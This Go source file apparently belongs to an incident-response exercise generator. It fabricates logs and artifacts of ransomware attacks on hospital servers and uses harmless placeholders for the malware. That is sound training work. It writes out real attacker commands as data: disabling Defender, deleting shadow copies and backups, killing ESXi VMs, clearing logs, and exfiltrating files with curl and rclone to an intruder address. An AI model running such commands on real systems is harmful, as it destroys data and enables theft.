package exercise

import (
	"fmt"
	"strings"
	"time"

	"wardround/internal/event"
)

// encrypted leaves some of the files that were encrypted, in the manners that there are: whole, their first part, in
// stripes; with the note in the head, renamed or not.
func (t *deed) encrypted(folder string, names []string, suffix string, at event.Time) {
	x := t.x
	first := t.d.IntN(3)
	for i, name := range names {
		d := x.e.dice("encrypted", t.to.key, folder, name)
		plain := ordinaryContent(d, name, 14_000+d.IntN(20_000))
		manner := t.option("manner", []string{"whole", "head", "stripes"}[(i+first)%3])
		data := x.overwritten(d, plain, manner)
		t.to.leaves(folder+`\`+name+suffix, data, at.Add(time.Duration(i)*40*time.Second))
	}
	t.to.wrote(at, at.Add(time.Duration(len(names)-1)*40*time.Second), len(names), nil)
	for _, name := range []string{"readme_wards.txt", "duty list 2022.csv"} { // what was not reached
		d := x.e.dice("untouched", t.to.key, folder, name)
		t.to.leaves(folder+`\`+name, ordinaryContent(d, name, 3000), x.e.from.Add(-d.about(90*24*time.Hour)))
	}
}

// overwritten is a file's content after encryption: whole, its head alone, or in stripes. The note stands before it.
func (x *intruder) overwritten(d *dice, plain []byte, manner string) []byte {
	out := []byte(x.note())
	switch manner {
	case "head":
		out = append(out, noise(d, 4096)...)
		return append(out, plain[min(4096, len(plain)):]...)
	case "stripes":
		for from := 0; from < len(plain); from += 4096 {
			copy(plain[from:min(from+1024, len(plain))], noise(d, 1024))
		}
		return append(out, plain...)
	}
	return append(out, noise(d, len(plain))...)
}

// ordinaryContent is what a hospital's file might hold. Its first line says what it is.
func ordinaryContent(d *dice, name string, size int) []byte {
	var b strings.Builder
	fmt.Fprintf(&b, "%s: %s\r\n", event.ExerciseMark, name)
	for b.Len() < size {
		fmt.Fprintf(&b, "%06d;%s;%s;%d.%d;%s\r\n", d.IntN(999_999), pick(d, []string{"Haemoglobin", "Creatinine", "Sodium", "Platelets", "Bilirubin", "Glucose"}), pick(d, []string{"OPD", "IPD", "ICU", "LAB"}), d.IntN(300), d.IntN(10), pick(d, []string{"verified", "provisional", "repeat"}))
	}
	return []byte(b.String())
}

// catb: protection is switched off, shadow copies and the backup catalog are deleted, the services that hold the data are
// stopped; a library puts another one beside MSDTC, which loads it and overwrites files. with: data (folder), stops
// (display/name of a service), quiet (nothing is switched off first).
func (t *deed) catb() {
	x, s, at := t.x, t.to, t.at
	f := x.hold(s, at)
	s.flag("encrypted")
	stops := t.option("stops", "SQL Server (MSSQLSERVER)/MSSQLSERVER")
	folder := t.option("data", `D:\Data`)
	s.sqlEnds = at.Add(102 * time.Second)
	s.leaves(x.payload+`\versions.dll`, x.dropper, at.Add(2*time.Minute))
	s.leaves(`C:\Windows\System32\oci.dll`, x.implant, at.Add(3*time.Minute))
	t.encrypted(folder, strings.Fields(t.option("files", "archive_01.ndf archive_02.ndf index.mdf report_11.pdf")), x.suffix, at.Add(5*time.Minute))
	files := t.d.between(22, 36)
	s.wrote(at.Add(3*time.Minute+14*time.Second), at.Add(3*time.Minute+14*time.Second+time.Duration(files)*1200*time.Millisecond), 0, nil)
	t.does(func(d *dice) {
		in := f.session
		shell := s.start(d, at, f.process, in, `C:\Windows\System32\cmd.exe`, `"C:\Windows\system32\cmd.exe" `)
		if t.option("quiet", "") == "" {
			x.protectionOff(s, d, at.Add(20*time.Second), shell, in)
		}
		x.copiesDeleted(s, d, at.Add(70*time.Second), shell, in)
		x.dataStops(s, d, at.Add(100*time.Second), shell, in, stops)
		s.creates(at.Add(2*time.Minute), f.process, x.payload+`\versions.dll`)
		load := &process{image: `C:\Windows\System32\rundll32.exe`, command: `rundll32.exe  ` + x.payload + `\versions.dll,#1`, pid: d.pid(), at: at.Add(3 * time.Minute), session: in, folder: x.payload + `\`}
		s.started(load, shell)
		s.loads(at.Add(3*time.Minute+50*time.Millisecond), load, x.payload+`\versions.dll`, x.dropper, "")
		s.creates(at.Add(3*time.Minute+400*time.Millisecond), load, `C:\Windows\System32\oci.dll`)
		x.serviceChanged(s, d, at.Add(3*time.Minute+time.Second), load, f)
		engine := &process{image: `C:\Windows\System32\msdtc.exe`, command: `C:\Windows\System32\msdtc.exe`, pid: d.pid(), at: at.Add(3*time.Minute + 12*time.Second), folder: `C:\Windows\system32\`}
		s.started(engine, s.standing("services"))
		s.loads(engine.at.Add(200*time.Millisecond), engine, `C:\Windows\System32\oci.dll`, x.implant, "")
		s.connects(d, engine.at.Add(2*time.Second), engine, `NT AUTHORITY\SYSTEM`, x.control[d.IntN(2)], 443)
		run := engine.at.Add(2 * time.Second)
		for i := range files {
			name := fmt.Sprintf(`%s\%s_%03d%s`, folder, pick(d, []string{"opd", "ipd", "billing", "pharmacy", "scan", "consent"}), i, pick(d, []string{".ndf", ".bak", ".pdf", ".tif", ".xml"}))
			s.creates(run, engine, name+x.suffix)
			run = run.Add(d.about(900 * time.Millisecond))
		}
	})
}

func (x *intruder) protectionOff(s *server, d *dice, at event.Time, shell *process, in *session) {
	const command = `Set-MpPreference -DisableRealtimeMonitoring $true`
	if s.year < 2016 {
		return
	}
	p := s.start(d, at, shell, in, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell  -c "`+command+`"`)
	s.powershell(d, p, command, true)
	engine := &process{image: `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2210.6-0\MsMpEng.exe`, pid: s.pid("msmpeng"), at: s.e.from}
	s.sets(at.Add(900*time.Millisecond), engine, `HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring`, "DWORD (0x00000001)")
	s.log(at.Add(910*time.Millisecond), "defender-5007", fields{"Product Version": defenderVersion, "Old Value": `Default\Real-Time Protection\DisableRealtimeMonitoring = 0x0`,
		"New Value": `HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring = 0x1`})
	s.log(at.Add(950*time.Millisecond), "defender-5001", fields{"Product Version": defenderVersion})
}

func (x *intruder) copiesDeleted(s *server, d *dice, at event.Time, shell *process, in *session) {
	s.start(d, at, shell, in, `C:\Windows\System32\vssadmin.exe`, `vssadmin  delete shadows /all /quiet`)
	s.runs(at.Add(200*time.Millisecond), "Volume Shadow Copy", "VSS", true)
	s.start(d, at.Add(8*time.Second), shell, in, `C:\Windows\System32\wbadmin.exe`, `wbadmin  delete catalog -quiet`)
	s.log(at.Add(9*time.Second), "backup-524", fields{})
	s.log(at.Add(3*time.Minute), "vss-8224", fields{})
	s.runs(at.Add(3*time.Minute), "Volume Shadow Copy", "VSS", false)
}

// dataStops stops the service that holds the data; service is its display name and its name, with a bar between.
func (x *intruder) dataStops(s *server, d *dice, at event.Time, shell *process, in *session, service string) {
	display, name, _ := strings.Cut(service, "/")
	s.start(d, at, shell, in, `C:\Windows\System32\net.exe`, `net  stop `+name+` /y`)
	if name == "MSSQLSERVER" {
		s.log(at.Add(2*time.Second), "sql-17147", fields{"@binary": s.sqlBinary(17147, 10)})
		s.runs(at.Add(3*time.Second), "SQL Server Agent (MSSQLSERVER)", "SQLSERVERAGENT", false)
	}
	s.runs(at.Add(5*time.Second), display, name, false)
}

// serviceChanged: MSDTC is stopped, set to run as LocalSystem at start, and started.
func (x *intruder) serviceChanged(s *server, d *dice, at event.Time, parent *process, f foothold) {
	for i, c := range []run{{`taskkill.exe`, `taskkill  /f /im msdtc.exe`}, {`sc.exe`, `sc  config msdtc obj= LocalSystem`}, {`sc.exe`, `sc  config msdtc start= auto`}, {`sc.exe`, `sc  start msdtc`}} {
		p := s.start(d, at.Add(time.Duration(i)*2*time.Second), parent, f.session, `C:\Windows\System32\`+c.image, c.command)
		s.ends(p.at.Add(time.Second), p)
	}
	user := "S-1-5-18"
	if f.session != nil {
		user = f.session.who.sid
	}
	s.log(at.Add(100*time.Millisecond), "7034", fields{"param1": "Distributed Transaction Coordinator", "param2": "1", "@binary": utf16le("MSDTC")})
	s.sets(at.Add(2*time.Second), s.standing("services"), `HKLM\System\CurrentControlSet\Services\MSDTC\ObjectName`, "LocalSystem")
	s.sets(at.Add(4*time.Second), s.standing("services"), `HKLM\System\CurrentControlSet\Services\MSDTC\Start`, "DWORD (0x00000002)")
	s.log(at.Add(4*time.Second), "7040", fields{"param1": "Distributed Transaction Coordinator", "param2": "demand start", "param3": "auto start", "param4": "MSDTC", "@user": user})
	s.runs(at.Add(11*time.Second), "Distributed Transaction Coordinator", "MSDTC", true)
}

// lockbit: a program stops services and deletes copies by itself, renames what it encrypts, leaves a note in each folder
// and clears logs.
func (t *deed) lockbit() {
	x, s, at := t.x, t.to, t.at
	f := x.hold(s, at)
	s.flag("encrypted")
	suffix := "." + x.e.dice("suffix").letters(9, mixed+"0123456789")
	noteName := suffix[1:] + ".README.txt"
	folder := t.option("data", `D:\Data`)
	program := `C:\Windows\Temp\` + x.program
	content := harmless("a program that encrypts files stood here")
	s.sqlEnds = at.Add(9 * time.Second)
	s.leaves(program, content, at)
	s.leaves(folder+`\`+noteName, []byte(x.note()), at.Add(time.Minute))
	s.leaves(`C:\Users\Public\Desktop\`+noteName, []byte(x.note()), at.Add(2*time.Minute))
	t.encrypted(folder, strings.Fields(t.option("files", "patients.mdf reports_2022.xlsx scans_03.tif billing.bak")), suffix, at.Add(90*time.Second))
	files := t.d.between(22, 36)
	s.wrote(at.Add(10*time.Second), at.Add(10*time.Second+time.Duration(files)*300*time.Millisecond), 0, nil)
	t.does(func(d *dice) {
		s.creates(at.Add(-30*time.Second), f.process, program)
		p := &process{image: program, command: program + ` -pass ` + digest(32, x.program), pid: d.pid(), at: at, session: f.session, folder: `C:\Windows\Temp\`, content: content}
		s.started(p, f.process)
		for i, c := range []run{{"vssadmin.exe", `"C:\Windows\System32\vssadmin.exe" delete shadows /all /quiet`}, {`wbem\WMIC.exe`, `"C:\Windows\System32\Wbem\WMIC.exe" shadowcopy delete`},
			{"bcdedit.exe", `"C:\Windows\System32\bcdedit.exe" /set {default} recoveryenabled no`}, {"wbadmin.exe", `"C:\Windows\System32\wbadmin.exe" DELETE SYSTEMSTATEBACKUP`}} {
			c := s.start(d, at.Add(time.Duration(1+i)*700*time.Millisecond), p, f.session, `C:\Windows\System32\`+c.image, c.command)
			s.ends(c.at.Add(500*time.Millisecond), c)
		}
		for i, name := range []string{"SQL Server (MSSQLSERVER)/MSSQLSERVER", "Volume Shadow Copy/VSS", "Windows Search/WSearch", "Windows Backup/SDRSVC", "Veeam Backup Service/VeeamBackupSvc"} {
			display, short, _ := strings.Cut(name, "/")
			if s.role == "database" || i > 0 && i < 4 || s.role == "backup" {
				s.runs(at.Add(time.Duration(4+i)*time.Second), display, short, false)
			}
		}
		s.log(at.Add(6*time.Second), "backup-524", fields{})
		run := at.Add(10 * time.Second)
		s.creates(run, p, folder+`\`+noteName)
		for i := range files {
			s.creates(run, p, fmt.Sprintf(`%s\%s_%03d%s%s`, folder, pick(d, []string{"opd", "ipd", "billing", "pharmacy", "scan"}), i, pick(d, []string{".xlsx", ".bak", ".pdf", ".tif", ".docx"}), suffix))
			run = run.Add(d.about(250 * time.Millisecond))
		}
		s.sets(run, p, `HKLM\SOFTWARE\Classes\`+suffix+`\DefaultIcon\(Default)`, `C:\ProgramData\`+suffix[1:]+`.ico`)
		s.ends(run.Add(20*time.Second), p)
	})
}

// encryptShares: from is the server on which the program runs; files on a share of to are written anew from there. No
// process of the file server does it.
func (t *deed) encryptShares() {
	x, s, from, at, who := t.x, t.to, t.from, t.at, t.who
	if s.truth.verdict != event.Infiltrated {
		s.truth.verdict, s.truth.decoy = event.Suspected, "files encrypted from another server"
	}
	s.flag("affected")
	t.encrypted(`D:\Departments\Accounts`, []string{"november.xlsx", "stock.xlsx", "tender 41.pdf"}, x.suffix, at.Add(time.Minute))
	s.wrote(at.Add(2*time.Second), at.Add(2*time.Second+40*900*time.Millisecond), 0, from)
	t.does(func(d *dice) {
		from.connects(d, at.Add(-time.Second), from.standing("System"), `NT AUTHORITY\SYSTEM`, s.host(), 445)
		x.e.ticket(d, at, who, from.host(), s, false)
		in := s.kerberos(d, at, who, from.host())
		c, run := s.connection(d, in), at.Add(2*time.Second)
		c.opens(at.Add(time.Second), common, `\`, 0x100081)
		for range d.between(24, 40) {
			name := pick(d, departments) + strings.Replace(pick(d, documents), ".", fmt.Sprintf("_%03d.", d.IntN(1000)), 1)
			c.opens(run, common, name, 0x12019f)
			c.opens(run.Add(20*time.Millisecond), common, name+x.suffix, 0x110080)
			run = run.Add(d.about(700 * time.Millisecond))
		}
		s.logoff(run.Add(20*time.Second), in)
	}, from)
}

// encryptESXi: the virtual machines of a hypervisor are stopped and their disks encrypted by a program in the shell.
func (t *deed) encryptESXi() {
	x, s, at := t.x, t.to, t.at
	s.flag("encrypted")
	program := "/tmp/" + x.e.dice("encryptor").letters(6, lower)
	s.leaves(program[1:], harmless("a program that encrypts the disks of virtual machines stood here"), at)
	s.leaves("etc/motd", []byte(x.note()), at.Add(9*time.Minute))
	machines := t.d.between(5, 9)
	s.wrote(at.Add(3*time.Minute), at.Add(3*time.Minute+20*24*time.Second), 0, nil)
	n := 0 // he sits in the session in which he came, or in a new one if that was long ago
	if x.hold(s, at).at.Add(4*time.Hour) < at {
		n = 1
	}
	t.does(func(d *dice) {
		pid := x.shellPID(s, n)
		if n > 0 && s.shellFrom != nil {
			x.opensShell(d, s, s.shellFrom, at.Add(-40*time.Second), pid)
		}
		line := func(after time.Duration, text string) {
			s.esxi("shell", at.Add(after), " shell[%d]: [root]: %s", pid+1, text)
		}
		line(0, "cd /tmp")
		line(20*time.Second, "chmod +x "+program)
		line(35*time.Second, "esxcli system settings advanced set -o /UserVars/SuppressShellWarning -i 1")
		for i := range machines {
			world := 2100000 + d.IntN(90000)
			after := time.Minute + time.Duration(i)*7*time.Second
			line(after, fmt.Sprintf("esxcli vm process kill --type=force --world-id=%d", world))
			s.esxi("hostd", at.Add(after+2*time.Second), " info hostd[2099%03d] [Originator@6876 sub=Vimsvc.ha-eventmgr] Event %d : EX-VM%02d on %s in ha-datacenter is powered off", d.IntN(900), 95000+i, i+1, strings.ToLower(s.name))
			s.esxi("vmkernel", at.Add(after+time.Second), " cpu%d:%d)World: vm %d: 7076: Killing world", d.IntN(16), world, world)
		}
		line(3*time.Minute, "nohup "+program+" /vmfs/volumes/ -v > /tmp/log 2>&1 &")
		line(12*time.Minute, "rm -f /var/log/*.gz")
		line(13*time.Minute, "exit")
		s.esxi("auth", at.Add(13*time.Minute), " sshd[%d]: pam_unix(sshd:session): session closed for user root", pid)
		for i := range 20 {
			s.esxi("vmkernel", at.Add(3*time.Minute+time.Duration(i)*24*time.Second), " cpu%d:2097%03d)FS3: 6120: %d: heavy metadata writes on volume datastore1", d.IntN(16), d.IntN(900), i)
		}
	}, s.shellFrom)
}

// stealFiles: files are packed and copied to an address of the intruder's.
func (t *deed) stealFiles() {
	x, s, at := t.x, t.to, t.at
	f := x.hold(s, at)
	s.flag("data taken")
	to := x.control[1]
	if s.system != windows {
		t.does(func(d *dice) {
			s.shell(d, at, "tar czf /var/tmp/.d.tgz /srv", program("/usr/bin/tar", "czf", "/var/tmp/.d.tgz", "/srv"))
			s.shell(d, at.Add(9*time.Minute), "curl -s -T /var/tmp/.d.tgz http://"+to.address+"/u", program("/usr/bin/curl", "-s", "-T", "/var/tmp/.d.tgz", "http://"+to.address+"/u"))
		})
		return
	}
	s.leaves(x.payload+`\rclone.conf`, []byte("# "+event.ExerciseMark+"\n[m]\ntype = sftp\nhost = "+to.address+"\nuser = m\n"), at)
	packed := x.payload + `\` + t.d.letters(5, lower) + `.7z`
	t.does(func(d *dice) {
		z := s.start(d, at, f.process, f.session, x.payload+`\7z.exe`, `7z.exe  a -mx1 -v2g `+packed+` D:\Departments`)
		s.creates(at.Add(2*time.Second), z, packed)
		s.ends(at.Add(25*time.Minute), z)
		c := s.start(d, at.Add(26*time.Minute), f.process, f.session, x.payload+`\`+x.theft, x.theft+`  copy `+packed+` m:in --transfers 8 --config `+x.payload+`\rclone.conf`)
		for i := range 12 {
			s.connects(d, at.Add(26*time.Minute+time.Duration(i)*3*time.Minute), c, `NT AUTHORITY\SYSTEM`, to, 443)
		}
		s.ends(at.Add(65*time.Minute), c)
	})
}

// destroyBackups: on the backup server the jobs are stopped and the backups deleted.
func (t *deed) destroyBackups() {
	x, s, at := t.x, t.to, t.at
	f := x.hold(s, at)
	s.flag("backups destroyed")
	s.leaves(`E:\Backup\README_job.txt`, ordinaryContent(t.d, "README_job.txt", 400), x.e.from)
	t.does(func(d *dice) {
		shell := s.start(d, at, f.process, f.session, `C:\Windows\System32\cmd.exe`, `"C:\Windows\system32\cmd.exe" `)
		s.start(d, at.Add(10*time.Second), shell, f.session, `C:\Windows\System32\net.exe`, `net  stop VeeamBackupSvc /y`)
		s.runs(at.Add(13*time.Second), "Veeam Backup Service", "VeeamBackupSvc", false)
		s.runs(at.Add(15*time.Second), "Veeam Broker Service", "VeeamBrokerSvc", false)
		x.copiesDeleted(s, d, at.Add(40*time.Second), shell, f.session)
		p := s.start(d, at.Add(time.Minute), shell, f.session, `C:\Windows\System32\cmd.exe`, `cmd  /c del /f /s /q E:\Backup\*.vbk E:\Backup\*.vib E:\Backup\*.bak`)
		for i := range 40 {
			if s.sysmon {
				when := at.Add(time.Minute + time.Duration(i)*300*time.Millisecond)
				s.log(when, "sysmon-23", fields{"UtcTime": utc(s.local(when)), "ProcessGuid": s.guid(p), "ProcessId": p.pid, "User": `NT AUTHORITY\SYSTEM`, "Image": p.image,
					"TargetFilename": fmt.Sprintf(`E:\Backup\job_%03d.vbk`, i), "Hashes": "-"})
			}
		}
		s.ends(at.Add(90*time.Second), p)
	})
}
